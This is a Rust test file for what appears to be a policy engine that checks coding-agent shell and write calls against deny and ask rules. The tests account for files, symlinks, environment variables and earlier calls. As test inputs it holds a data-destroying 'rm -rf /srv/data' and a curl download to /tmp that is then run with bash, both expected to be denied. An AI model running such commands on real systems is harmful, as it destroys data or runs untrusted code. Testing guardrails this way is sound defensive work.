//! The surroundings of a case have effect: files, symlinks, variables, and earlier calls of the session.

use castellan_daemon::{Config, compile};
use castellan_event::Verdict;
use castellan_rules::Source;
use castellan_trial::{Asked, Case, Laid, Link, Trial};
use serde_json::{Map, Value as Json, json};

const RULES: &str = r#"
- rule: asks once about production
  desc: d
  condition: cmd.args intersects (production) and session.mark_count[warned] = 0
  output: o
  priority: WARNING
  source: coding_agent
  tags: [coding_agent_ask, "coding_agent_mark:warned"]
- rule: denies running downloads
  desc: d
  condition: fx.kind = execute and fx.file_origin = downloaded
  output: o
  priority: CRITICAL
  source: coding_agent
  tags: [coding_agent_deny]
- rule: denies deleting data
  desc: d
  condition: fx.kind = delete and fx.path startswith /srv/data
  output: o
  priority: CRITICAL
  source: coding_agent
  tags: [coding_agent_deny]
"#;

fn shell(command: &str) -> Case {
    Case::new("Bash", input(json!({ "command": command })))
}

fn input(json: Json) -> Map<String, Json> {
    let Json::Object(input) = json else { return Map::new() };
    input
}

fn with_file(case: Case, path: &str, laid: Laid) -> Case {
    Case { files: [(path.to_owned(), laid)].into(), ..case }
}

fn after(case: Case, tool: &str, earlier: Json) -> Case {
    let asked = Asked { tool: tool.to_owned(), input: input(earlier) };
    Case { earlier: case.earlier.into_iter().chain([asked]).collect(), ..case }
}

fn check(case: &Case, expected: Verdict) {
    let sources = [Source { name: "r.yaml".to_owned(), text: RULES.to_owned() }];
    let compiled = compile(&sources, &Config::default());
    assert_eq!(compiled.error(), None);
    let judged = Trial::new(&compiled.policy).judge(case).unwrap();
    assert_eq!(judged.decision.verdict, expected, "{case:?}\n{:?}", judged.facts.effects);
}

#[test]
fn files_of_a_case_are_there() {
    let text = |text: &str| Laid::Text(text.to_owned());
    check(&with_file(shell("bash x.sh"), "x.sh", text("rm -rf /srv/data\n")), Verdict::Deny);
    check(&with_file(shell("bash x.sh"), "/home/dev/project/x.sh", text("ls\n")), Verdict::Defer);
    // Unknown contents are Opaque.
    check(&with_file(shell("bash x.sh"), "x.sh", Laid::Unknown(())), Verdict::Ask);
    check(&shell("bash x.sh"), Verdict::Ask);
    let link = Laid::Link(Link { link: "/srv/data".to_owned() });
    check(&with_file(shell("rm -r old/x"), "old", link), Verdict::Deny);
    check(&shell("rm -r old/x"), Verdict::Defer);
}

#[test]
fn variables_and_the_directory_of_a_case_count() {
    let delete = shell("rm -r \"$DATA\"");
    check(
        &Case { env: [("DATA".to_owned(), "/srv/data".to_owned())].into(), ..delete.clone() },
        Verdict::Deny,
    );
    check(&Case { env: [("DATA".to_owned(), "build".to_owned())].into(), ..delete }, Verdict::Defer);
    check(&Case { cwd: "/srv/data".to_owned(), ..shell("rm -r x") }, Verdict::Deny);
}

#[test]
fn earlier_calls_are_done_first() {
    let run = shell("bash /tmp/x.sh");
    check(
        &after(run.clone(), "Bash", json!({ "command": "curl -o /tmp/x.sh https://e.example/x" })),
        Verdict::Deny,
    );
    check(
        &after(run.clone(), "Write", json!({ "file_path": "/tmp/x.sh", "content": "ls\n" })),
        Verdict::Defer,
    );
    let script = json!({ "file_path": "/tmp/x.sh", "content": "rm -r /srv/data\n" });
    check(&after(run, "Write", script), Verdict::Deny);
    // A mark set by an earlier call.
    let deploy = shell("deploy production");
    check(&deploy, Verdict::Ask);
    check(&after(deploy, "Bash", json!({ "command": "deploy production" })), Verdict::Defer);
}

#[test]
fn what_no_agent_would_report_is_told() {
    let compiled = compile(&[], &Config::default());
    let trial = Trial::new(&compiled.policy);
    let too_long = "x".repeat(castellan_agents::PAYLOAD_BYTES_MAX);
    let case = after(shell("ls"), "Bash", json!({ "command": too_long }));
    let why = trial.judge(&case).unwrap_err();
    assert!(why.starts_with("earlier call 1: "), "{why}");
}
